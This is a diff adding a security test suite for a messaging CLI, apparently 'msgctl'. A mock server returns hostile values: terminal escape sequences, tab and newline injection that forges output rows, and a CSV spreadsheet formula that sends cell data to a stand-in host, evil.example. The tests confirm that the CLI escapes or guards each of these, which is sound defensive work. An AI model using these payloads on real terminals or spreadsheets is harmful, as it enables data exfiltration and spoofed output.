@@ -1,0 +1,146 @@
+/**
+ * Answers of the right shape whose values are hostile (a stand-in or compromised service): what
+ * they say reaches the terminal as visible escapes, a script's tab-separated lines keep their
+ * fields and rows, and a CSV download is formula-safe whatever type its host labels it
+ * (docs/security.md §1 and §4). Each case failed before: raw escape sequences, forged rows,
+ * `=HYPERLINK(…)` written as it came.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { isolatedEnv, msgctl } from '../helpers/in-process.js';
+
+/** A title change, a screen clear and a C1 CSI: none may reach a terminal raw. */
+const ESCAPES = '\u001b]0;OWNED\u0007\u001b[2J\u009b31m';
+const RAW = /[\u001b\u0007\u009b]/;
+const EXPORT_ID = '11111111-1111-4111-8111-111111111111';
+const CONVERSATION = '22222222-2222-4222-8222-222222222222';
+
+let server: Server;
+let base: string;
+/** What the download link serves next: its type and text. */
+let download = { type: 'application/octet-stream', body: '' };
+
+const message = (id: string) => ({
+  id,
+  conversation: { id: CONVERSATION, title: 'Ivy' },
+  sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' },
+  patient: { id: CONVERSATION, name: 'Ivy Tran' },
+  channel: `sms${ESCAPES}`,
+  phone_number: { number: `+15555550100${ESCAPES}`, team: 't' },
+  delivery: { status: `queued${ESCAPES}`, updated_at: '2026-11-27T10:00:00Z' },
+  created_at: '2026-11-27T10:00:00Z',
+  type: 'text',
+  body: 'hi',
+  unread: false,
+});
+
+beforeAll(async () => {
+  server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (chunk) => (body += chunk));
+    req.on('end', () => {
+      const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
+      const path = req.url!.split('?')[0]!;
+      if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: 'Riverside' }); // a batch's target
+      if (path === `/v1/exports/${EXPORT_ID}`) return json(200, { id: EXPORT_ID, status: 'ready', created_at: '2026-11-27T10:00:00Z', download_url: `${base}/file` });
+      if (path === '/file') return res.writeHead(200, { 'content-type': download.type }).end(download.body);
+      if (path === '/v1/patient-messages') {
+        // Row 3 (phone ...0103) fails; row 2's id tries to forge a "sent" line for it.
+        const to = JSON.parse(body).to.phone as string;
+        if (to.endsWith('0103')) return json(422, { type: 'about:blank', title: 'Unprocessable', status: 422, code: `bad\t\n3\tsent${ESCAPES}`, detail: 'no' });
+        return json(201, { message: message(to.endsWith('0102') ? 'm-2\n3\tsent\tFORGED\tnow\t' : `m-1${ESCAPES}`), patient_created: false, conversation_created: false });
+      }
+      if (path === `/v1/campaigns/${CONVERSATION}`) {
+        return json(200, {
+          id: CONVERSATION, name: 'Flu', status: `running${ESCAPES}`, channel: 'sms', body: 'b', phone_number: { number: '+15555550100', team: 't' },
+          sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' }, send_interval_seconds: 1, archived: false, created_at: '2026-11-27T10:00:00Z',
+          counts: { recipients: 10, pending: 5, sent: 5, delivered: 0, failed: 0, skipped: 0 },
+        });
+      }
+      if (path.startsWith('/v1/me/conversations/')) return json(201, { ...message(`m-9\t${ESCAPES}`), sender: { id: CONVERSATION, name: 'Dana', kind: 'staff' } });
+      json(404, { type: 'about:blank', title: 'Not found', status: 404, code: 'not_found' });
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(() => server.close());
+
+const env = (extra: Record<string, string> = {}) => isolatedEnv({ MSGCTL_BASE_URL: `${base}/v1`, MSGCTL_API_KEY: 'msk_test_hostile', ...extra });
+
+describe('what a hostile answer says reaches the terminal as escapes', () => {
+  it('send: channel, id, number and delivery status', async () => {
+    const r = await msgctl(['send', '--to', '+15555550101', 'hi'], { env: env(), tty: true });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/^Sent sms.*OWNED/);
+    expect(r.stdout).not.toMatch(RAW);
+  });
+
+  it('me send: the message id', async () => {
+    const r = await msgctl(['me', 'send', CONVERSATION, 'hi'], { env: env({ MSGCTL_API_KEY: '', MSGCTL_TOKEN: 'tok_hostile' }), tty: true });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/^Sent message m-9/);
+    expect(r.stdout).not.toMatch(RAW);
+  });
+
+  it('campaigns watch, stopped with Ctrl-C: the campaign\'s status', async () => {
+    const r = await msgctl(['campaigns', 'watch', CONVERSATION], { env: env(), tty: true, timeout: 1500 });
+    expect(r.stderr).toMatch(/Stopped watching\. Campaign \S+ is still running/);
+    expect(r.stderr).not.toMatch(RAW);
+  });
+
+  it('send --csv: a failed row\'s error code', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
+    writeFileSync(join(dir, 'rows.csv'), 'phone\n+15555550103\n');
+    const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env(), tty: true });
+    expect(r.stdout + r.stderr).toMatch(/row 2: failed \(bad/);
+    expect(r.stdout + r.stderr).not.toMatch(RAW);
+  });
+});
+
+describe("a script's tab-separated lines keep their fields and rows", () => {
+  it('send --csv: one line per row, five fields, whatever the ids and codes hold', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
+    writeFileSync(join(dir, 'rows.csv'), 'phone\n+15555550102\n+15555550103\n');
+    const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env() });
+    const lines = r.stdout.split('\n').filter(Boolean);
+    expect(lines.map((line) => line.split('\t').slice(0, 2))).toEqual([['2', 'sent'], ['3', 'failed']]);
+    for (const line of lines) expect(line.split('\t')).toHaveLength(5);
+  });
+
+  it('send and me send: one line, their fields', async () => {
+    const sent = await msgctl(['send', '--to', '+15555550102', 'hi'], { env: env() });
+    expect(sent.stdout.split('\n')).toHaveLength(2);
+    expect(sent.stdout.split('\t')).toHaveLength(4);
+    const mine = await msgctl(['me', 'send', CONVERSATION, 'hi'], { env: env({ MSGCTL_API_KEY: '', MSGCTL_TOKEN: 'tok_hostile' }) });
+    expect(mine.stdout.split('\n')).toHaveLength(2);
+    expect(mine.stdout.split('\t')).toHaveLength(3);
+  });
+});
+
+describe('exports download is formula-safe whatever type the link is served as', () => {
+  const csv = 'name,body\r\nJamie,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n';
+  const guarded = 'name,body\r\nJamie,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n';
+
+  it.each(['application/octet-stream', 'binary/octet-stream', 'application/csv', 'text/plain', ''])('a CSV served as "%s" is guarded', async (type) => {
+    download = { type, body: csv };
+    const dir = mkdtempSync(join(tmpdir(), 'msgctl-hostile-'));
+    const r = await msgctl(['exports', 'download', EXPORT_ID, '-o', join(dir, 'out.csv')], { env: env() });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe(guarded);
+  });
+
+  it('JSON, by its type or (when the type says nothing) by its first character, passes as it came', async () => {
+    const json = '{"messages":[{"body":"x"},"=1+1",-4]}'; // as CSV, `,"=1+1"` and `,-4` would be guarded
+    for (const type of ['application/json', 'application/vnd.example+json; charset=utf-8', 'application/octet-stream']) {
+      download = { type, body: json };
+      const r = await msgctl(['exports', 'download', EXPORT_ID], { env: env() });
+      expect(r.exitCode, r.stderr).toBe(0);
+      expect(r.stdout, type).toBe(json);
+    }
+  });
+});
